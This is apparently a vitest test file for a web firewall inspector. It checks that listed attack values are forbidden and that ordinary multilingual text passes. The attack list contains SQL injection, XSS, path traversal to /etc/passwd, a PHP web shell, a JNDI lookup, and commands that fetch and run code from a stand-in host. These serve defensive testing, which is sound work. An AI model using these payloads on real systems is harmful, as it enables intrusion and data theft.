import type { RuleGroup } from '@fairlead/api/firewall/group.ts'
import { expect, test } from 'vitest'
import { Inspector } from './inspect.ts'
import { asked, places, settings, verdictOn } from './testing/asked.ts'

const inspector = new Inspector()

/** Attacks that a visitor writes into a value. */
const attacks: readonly (readonly [RuleGroup, string])[] = [
  ['sql', "1' OR '1'='1"],
  ['sql', '1 UNION ALL SELECT username, password FROM users--'],
  ['sql', "x'; DROP TABLE orders; --"],
  ['sql', '1 AND SLEEP(5)'],
  ['sql', '1/**/UnIoN/**/SeLeCt/**/1,2,3'],
  ['script', '<script>alert(document.cookie)</script>'],
  ['script', '<img src=x onerror=alert(1)>'],
  ['script', '"><svg/onload=confirm(1)>'],
  ['script', '<a href="java&#x09;script:alert(1)">x</a>'],
  ['command', '; cat /etc/passwd'],
  ['command', '$(curl http://192.0.2.1/x | sh)'],
  ['command', '`id`;wget http://192.0.2.1/a'],
  ['path', '../../../../etc/passwd'],
  ['path', '..\\..\\..\\windows\\win.ini'],
  ['include', 'php://filter/convert.base64-encode/resource=index.php'],
  ['code', '<?php system($_GET["c"]); ?>'],
  ['code', '${jndi:ldap://192.0.2.1/a}'],
  ['code', 'O:8:"Example1":1:{s:4:"name";s:3:"abc";}'],
]

const inPlaces = Object.keys(places) as (keyof typeof places)[]
test.each(attacks.flatMap(([group, value]) => inPlaces.map((place) => [group, place, value] as const)))(
  '%s in %s is stopped: %s',
  (group, place, value) => {
    const verdict = verdictOn(inspector, places[place](value))
    expect(verdict.action).toBe('forbid')
    expect(verdict.findings.map((finding) => finding.group)).toContain(group)
  },
)

const ordinary = [
  "It's a dog's life, and 1 or 2 of the cats agree; the others don't.",
  'Please select a table from the catalogue and drop us a line when you order.',
  'We met at 10:30 (the usual place) & talked -- about prices < 20 EUR.',
  'O’Brien, D’Angelo and McDonald’s',
  'How do I update my address? The page says "where is your house"...',
  'C++ vs. C#: a <very> short comparison',
  '请从列表中选择商品，并在下单后联系客服；价格为 20 元/件（含税）。',
  '他说：“今天下午 3 点，在老地方见。”——然后就走了。',
  '关于《红楼梦》的读书笔记（第 1 章～第 5 章）',
  'user+tag@example.com',
  'https://www.example.com/a/b.html?x=1&y=2#part',
  '2026-11-24T18:30:00+08:00',
]
test.each(ordinary.flatMap((value) => inPlaces.map((place) => [place, value] as const)))(
  'ordinary text in %s passes: %s',
  (place, value) => {
    // Not even a rule that only counts matches it.
    expect(verdictOn(inspector, places[place](value))).toMatchObject({ action: 'pass', findings: [] })
  },
)

test('attacks in paths and fields are stopped, and the verdict says where', () => {
  const up = verdictOn(inspector, asked({ path: '/static/..%2f..%2f..%2fetc/passwd' }))
  expect(up.action).toBe('forbid')
  expect(up.findings).toContainEqual({ rule: 'path-up', group: 'path', place: 'path', score: 5, mode: 'on' })
  const scan = asked()
  const scanned = { ...scan, fields: ['User-Agent', 'sqlmap/1.9.2#stable (https://sqlmap.org)'] }
  expect(verdictOn(inspector, scanned).findings).toMatchObject([
    { rule: 'scanner-agent', group: 'scanner', place: 'headers:user-agent' },
  ])
  const lookup = asked({ fields: ['X-Api-Version', '${jndi:ldap://192.0.2.1/a}'] })
  expect(verdictOn(inspector, lookup).findings.map(({ rule, place }) => [rule, place])).toContainEqual([
    'code-lookup',
    'headers:x-api-version',
  ])
  const split = places.query('a\r\nSet-Cookie: session=1')
  expect(verdictOn(inspector, split).findings.map(({ rule }) => rule)).toContain('protocol-split')
})

test('a group that counts stops nothing and says what it would have stopped; one that is off is silent', () => {
  const attack = places.query("1' OR '1'='1")
  const on = verdictOn(inspector, attack)
  const counted = verdictOn(inspector, attack, settings({ mode: 'count' }))
  expect(counted).toMatchObject({ action: 'pass', score: 0, wouldForbid: true, countedScore: on.score })
  expect(counted.findings).toEqual(on.findings.map((finding) => ({ ...finding, mode: 'count' })))
  expect(verdictOn(inspector, attack, settings({ mode: 'off' })).findings).toEqual([])
})

test('the mode of a rule wins over that of its group', () => {
  const attack = places.query('1 AND SLEEP(5)')
  const { findings } = verdictOn(inspector, attack)
  const off = Object.fromEntries(findings.map(({ rule }) => [rule, 'off' as const]))
  expect(verdictOn(inspector, attack, settings({ rules: off }))).toMatchObject({
    action: 'pass',
    findings: [],
  })
  const on = Object.fromEntries(findings.map(({ rule }) => [rule, 'on' as const]))
  expect(verdictOn(inspector, attack, settings({ mode: 'off', rules: on })).action).toBe('forbid')
})

test('an exception lets its rule pass in its place under its path, and nothing else', () => {
  const value = '<script>alert(1)</script>'
  const at = (path: string, name = 'q') => asked({ path, query: `${name}=${encodeURIComponent(value)}` })
  const { findings } = verdictOn(inspector, at('/post/1'))
  const exceptions = findings.map(({ rule, place }) => ({ rule, place, path: '/post/*' }))
  const by = settings({ exceptions })
  expect(verdictOn(inspector, at('/post/1'), by)).toMatchObject({ action: 'pass', findings: [] })
  expect(verdictOn(inspector, at('/login'), by).action).toBe('forbid')
  expect(verdictOn(inspector, at('/post/1', 'r'), by).action).toBe('forbid')
  const other = asked({ path: '/post/1', query: `q=${encodeURIComponent("1' OR '1'='1")}` })
  expect(verdictOn(inspector, other, by).action).toBe('forbid')
})

test('what is remembered stays bounded', () => {
  const one = new Inspector()
  const count = (from: number) => {
    for (let at = from; at < from + 3_000; at += 1)
      verdictOn(one, asked({ query: `q=${at}&rest=${'x'.repeat(900)}` }))
    return one.count
  }
  count(0)
  const after = count(3_000)
  expect(count(6_000)).toBeLessThan(after * 1.5)
  expect(after).toBeLessThan(3_000)
})

test('deep JSON is read without recursion, and refused', () => {
  const deep = asked({ body: `${'['.repeat(32_000)}${']'.repeat(32_000)}`, type: 'application/json' })
  expect(verdictOn(inspector, deep).findings).toMatchObject([{ rule: 'protocol-depth', place: 'body' }])
  const names = asked({ body: '{"a":"x","a":"1\' OR \'1\'=\'1"}', type: 'application/json' })
  expect(verdictOn(inspector, names).action).toBe('forbid')
})

test('the same request is judged alike the second time', () => {
  const one = new Inspector()
  for (const value of ['plain', "1' OR '1'='1"]) {
    const parts = places.query(value)
    expect(verdictOn(one, parts)).toEqual(verdictOn(one, parts))
  }
})
